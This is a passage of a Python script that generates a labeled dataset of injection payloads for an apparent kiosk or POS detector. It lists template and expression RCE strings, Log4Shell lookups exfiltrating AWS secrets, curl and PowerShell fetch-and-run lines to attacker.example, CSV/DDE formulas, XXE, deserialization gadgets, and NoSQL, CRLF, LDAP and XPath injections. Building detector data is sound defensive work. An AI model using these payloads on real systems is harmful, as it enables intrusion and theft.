    ("dot-template-exec", "{{= global.process.mainModule.require('child_process').execSync('whoami') }}"),
    ("razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("groovy-gstring-execute", "${\"id\".execute().text}"),
    ("pebble-getclass-runtime", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("spel-hash-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-dollar-sh-array", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}"),
    ("spel-processbuilder", "#{new java.lang.ProcessBuilder({'id'}).start()}"),
    ("ognl-struts-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-member-access", "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("mvel-expression", "Runtime.getRuntime().exec(\"id\")"),
    ("python-eval-import", "__import__('os').system('id')"),
    ("price-formula-python-eval", "1+1 if __import__('subprocess').call(['sh','-c','curl attacker.example|sh']) else 0"),
    ("php-eval-system", "1;system('id');"),
    ("php-eval-complex-var", "${@system($_GET[c])}"),
    ("node-eval-child-process", "require('child_process').exec('id')"),
    ("node-eval-mainmodule", "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"),
    ("node-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("ruby-eval-kernel-exec", "Kernel.exec('id')"),
    ("perl-eval-qx", "qx{cat /etc/shadow}"),
    ("price-formula-js-readfile", "base*1.19;require('fs').readFileSync('/etc/passwd','utf8')"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("kiosk-id-log4shell-rmi", "K-0417 ${jndi:rmi://203.0.113.12/obj}"),
    ("log4shell-lower-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-default-value-split", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/k}"),
    ("log4shell-dns-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("log4shell-env-default", "${${env:NOTSET:-j}ndi:ldaps://198.51.100.3/a}"),
    ("log4shell-sys-lookup-host", "${jndi:ldap://${sys:java.version}.attacker.example/v}"),
    ("user-agent-log4shell", "KioskBrowser/5.2 ${jndi:ldap://attacker.example/ua}"),
    ("log4shell+urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("proto-pollution-json-admin", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"supervisor\"}}}"),
    ("proto-pollution-node-options-rce", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("proto-pollution-query-string", "__proto__[refund_limit]=999999"),
    ("proto-pollution-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Click for receipt\")"),
    ("csv-plus-dde-powershell", "+SUM(1+1)*cmd|' /C powershell -nop -c iwr attacker.example/p.ps1|iex'!A0"),
    ("csv-at-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("csv-webservice-exfil", "=WEBSERVICE(\"http://attacker.example/x?\"&A2)"),
    ("csv-importxml-sheets", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:C20),\"//a\")"),
    ("csv-libreoffice-dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("xxe-file-receipt", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><receipt>&x;</receipt>"),
    ("xxe-parameter-entity-oob", "<!DOCTYPE m [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><menu/>"),
    ("xinclude-text", "<kiosk xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/kiosk/payment.conf\"/></kiosk>"),
    ("xxe-imds", "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><config><name>&x;</name></config>"),
    ("xslt-xalan-runtime", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:template></xsl:stylesheet>"),
    ("pyyaml-os-system", "!!python/object/apply:os.system ['id']"),
    ("pyyaml-check-output", "!!python/object/apply:subprocess.check_output [['cat','/etc/passwd']]"),
    ("snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-base64-os-system", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("java-xmldecoder-processbuilder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-object-injection", "O:11:\"KioskLogger\":1:{s:4:\"file\";s:23:\"/var/www/html/shell.php\";}"),
    ("php-phar-wrapper", "phar:///var/www/uploads/receipt_logo.jpg/x"),
    ("jsonpickle-reduce", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("fastjson-jdbcrowset", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("jackson-logback-h2-runscript", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://attacker.example/i.sql'\"}]"),
]
CODE_PRE = ["Receipt footer: ", "Screen text: ", "Menu item name: ", "Support note: "]
CODE_PAY = [
    ("tpl-prefix-jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("tpl-prefix-log4shell", "${jndi:ldap://attacker.example/kiosk}"),
    ("tpl-prefix-spel", "#{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("tpl-prefix-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
]

# ------------------------------------------------------------------ nosqli
LIT["nosqli"] = [
    ("pin-ne-null", "{\"$ne\": null}"),
    ("pin-gt-empty", "{\"$gt\": \"\"}"),
    ("query-string-ne", "pin[$ne]=0000"),
    ("query-string-regex-login", "operator[$regex]=^adm&pin[$ne]=x"),
    ("regex-enumeration", "{\"$regex\": \"^K-04\", \"$options\": \"i\"}"),
    ("where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-string-breakout", "'; return true; var x='"),
    ("where-infinite-loop", "1'; while(true){}; var d='"),
    ("where-pin-blind", "{\"$where\": \"this.pin.match(/^1/) != null\"}"),
    ("or-empty-doc", "{\"$or\": [{}, {\"role\": \"admin\"}]}"),
    ("in-role-list", "{\"$in\": [\"admin\", \"supervisor\", \"root\"]}"),
    ("nin-empty", "{\"$nin\": []}"),
    ("exists-true", "{\"$exists\": true}"),
    ("expr-always-true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("query-string-gt-store", "store[$gt]="),
    ("aggregation-lookup-operators", "{\"$lookup\": {\"from\": \"operators\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}"),
    ("aggregation-unionwith", "{\"$unionWith\": \"payments\"}"),
    ("where-concat-breakout", "', $where: '1 == 1"),
    ("regex-match-all", "{\"$regex\": \".*\"}"),
    ("query-string-regex-options", "kiosk_id[$regex]=.*&kiosk_id[$options]=s"),
    ("couchdb-mango-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("es-query-string-or", "status:* OR _exists_:card_number"),
    ("type-probe", "{\"pin\": {\"$type\": 2}}"),
    ("where-function-role", "{\"$where\": \"function(){ return (this.role == 'admin') }\"}"),
    ("ne-null+urlencode", "%7B%22%24ne%22%3Anull%7D"),
    ("not-eq", "{\"$not\": {\"$eq\": \"x\"}}"),
]

# ------------------------------------------------------------------ crlf
LIT["crlf"] = [
    ("log-forging-lf-login", "K-0417 ok\n2024-06-01 08:00:00 INFO supervisor login ok user=admin"),
    ("log-forging-crlf-audit", "printer jam\r\n2024-06-01 03:12:00 INFO cash drawer audit passed, diff=0.00"),
    ("log-forging+urlencode", "%0d%0a2024-06-01 INFO refund approved by supervisor id=0001"),
    ("log-forging+double-urlencode", "%250d%250aINFO admin logged out"),
    ("log-forging-unicode-line-separator", "K-07\u2028INFO 2024-06-01 all payments reconciled"),
    ("header-set-cookie-fixation", "de-DE\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-set-cookie+urlencode", "en%0d%0aSet-Cookie:%20role=supervisor"),
    ("redirect-location-injection", "/menu\r\nLocation: https://attacker.example/phish"),
    ("response-splitting-body", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>"),
    ("response-splitting+urlencode", "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("header-injection+utf8-truncation", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header-lf-xff", "fr\nX-Forwarded-For: 127.0.0.1"),
    ("header-cors-injection", "en\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("header-refresh-injection", "\r\nRefresh: 0; url=https://attacker.example/"),
    ("upstream-request-splitting", "K-0417 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Admin: 1\r\n\r\n"),
    ("mail-bcc-injection", "customer@example.com\r\nBcc: list@attacker.example"),
    ("mail-cc+urlencode", "customer@example.com%0ACc:spam@attacker.example"),
    ("mail-subject-bcc", "Receipt #88213\r\nBcc: a@attacker.example, b@attacker.example"),
    ("mail-body-html-injection", "me@example.com\nContent-Type: text/html\n\n<a href=https://attacker.example>Claim refund</a>"),
    ("mail-reply-to-injection", "Kiosk feedback\r\nReply-To: support@attacker.example"),
    ("mail-to+urlencode", "someone@example.com%0D%0ATo:%20victim@example.net"),
    ("mail-display-name-bcc", "\"Dana\" <dana@example.com>\r\nX-Mailer: x\r\nBcc: all@attacker.example"),
    ("log-forging-audit-line", "POS-4\n[AUDIT] 2024-06-12 21:47 cash drawer opened with sale #9912 (operator 0082)"),
    ("log-forging-access-log", "Tom\r\n127.0.0.1 - admin [12/Jun/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200"),
    ("log-ansi-escape", "K-0417\x1b[2J\x1b[1;31mALL KIOSKS OK"),
    ("header-lf-only+urlencode", "lang=en%0aSet-Cookie:%20kiosk_admin=1"),
    ("smtp-rcpt-injection", "c@example.com\r\nRCPT TO:<x@attacker.example>"),
]
CRLF_PRE = ["K-0417", "store LIS-03", "order 4412"]
CRLF_PAY = [
    ("tpl-prefix-log-forging", "\n2024-06-01 09:00:00 INFO refund approved supervisor=0001"),
    ("tpl-prefix-set-cookie", "\r\nSet-Cookie: kiosk_role=admin"),
    ("tpl-prefix-encoded-log-forging", "%0d%0aINFO cash count ok diff=0.00"),
]

# ------------------------------------------------------------------ ldap-xpath
LIT["ldap-xpath"] = [
    ("ldap-close-or-all", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-objectclass-or", "*)(|(objectClass=*)"),
    ("ldap-password-attr-probe", "tom*)(userPassword=*"),
    ("ldap-memberof-admins", "*)(memberOf=cn=kiosk-admins,ou=groups,dc=store,dc=local"),
    ("ldap-operator-role-or", "0082)(|(role=supervisor)(role=admin)"),
    ("ldap-or-secret-attrs", "*)(|(userPassword=*)(pin=*)"),
    ("ldap-close+urlencode", "%2A%29%28uid%3D%2A"),
    ("ldap-not-nobody", "*)(!(cn=nobody)"),
    ("ldap-blind-and-false", "admin)(!(&(1=0)"),
    ("xpath-kiosk-or-true", "K-0417' or '1'='1"),
    ("xpath-or-chain", "' or 1=1 or 'a'='a"),
    ("xpath-name-probe", "x' or name()='operator' or 'a'='b"),
    ("xpath-union-pin", "'] | //operator/pin | //x['"),
    ("xpath-count-probe", "' or count(/kiosks/kiosk)>0 or '"),
    ("xpath-substring-blind", "' or substring(//operator[1]/pin,1,1)='4' or '"),
    ("xpath-string-length-blind", "' or string-length(name(/*[1]))=6 or '"),
    ("xpath-numeric-or", "0 or 1=1"),
    ("xpath-predicate-union-all", "')] | //* | a[('"),
    ("xpath2-doc-oob", "' or doc('http://attacker.example/x')/a or '"),
]

TEMPLATES = {
    "sqli": (SQLI_PRE, SQLI_PAY),
    "xss": (XSS_PRE, XSS_PAY),
    "cmdi": (CMDI_PRE, CMDI_PAY),
    "traversal": (TRAV_PRE, TRAV_PAY),
    "ssrf": (SSRF_PRE, SSRF_PAY),
    "code": (CODE_PRE, CODE_PAY),
    "crlf": (CRLF_PRE, CRLF_PAY),
}


def templated(rng, cat):
    """Join a hand-written theme prefix to a hand-written payload; sometimes URL-encode the payload."""
    pres, pays = TEMPLATES[cat]
    cls, pay = rng.choice(pays)
    pre = rng.choice(pres)
    if rng.random() < 0.25:
        return cls + "+urlencode", pre + urllib.parse.quote(pay, safe="")
    return cls, pre + pay


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    n = 0
    for cat in ORDER:
        lits = LIT[cat]
        items = []
        for cls, val in lits:
            assert val not in seen, (cat, val)
            seen.add(val)
            items.append((cls, val))
        assert len(items) <= COUNTS[cat], (cat, len(items))
        tries = 0
        while len(items) < COUNTS[cat]:
            tries += 1
            assert tries < 10000, cat
            cls, val = templated(rng, cat)
            if val in seen:
                continue
            seen.add(val)
            items.append((cls, val))
        rng.shuffle(items)
        for cls, val in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": val})
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
